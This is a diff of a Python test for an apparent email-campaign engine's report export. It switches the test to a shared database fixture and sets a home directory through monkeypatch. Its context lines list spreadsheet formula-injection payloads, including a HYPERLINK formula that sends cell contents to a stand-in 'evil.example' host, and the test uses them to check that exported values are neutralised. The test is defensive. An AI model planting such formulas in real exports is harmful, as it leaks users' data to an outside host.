@@ -50,9 +50,11 @@ def test_simulate_reports_an_unterminated_quote_by_line_and_imports_the_rows_aft
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
 
 
-def test_the_report_export_neutralises_formula_prefixes_in_lead_values(tmp_path):
+def test_the_report_export_neutralises_formula_prefixes_in_lead_values(engine_db, tmp_path, monkeypatch):
+    monkeypatch.setenv("MAILBRANCH_HOME", str(tmp_path / "home"))
+
     async def scenario() -> tuple[str, str]:
-        db = Database(tmp_path / "engine.db")
+        db = engine_db
         service = EngineService(db, RunnerSettings(SmtpSettings.from_url("sandbox"), grace_ms=0, poll_seconds=0.05))
         server = ControlServer(service, SECRET)
         await service.start()
@@ -80,7 +82,6 @@ def test_the_report_export_neutralises_formula_prefixes_in_lead_values(tmp_path)
         finally:
             await server.stop()
             await service.stop()
-            db.dispose()
         return per_lead, per_node
 
     per_lead, per_node = asyncio.run(scenario())
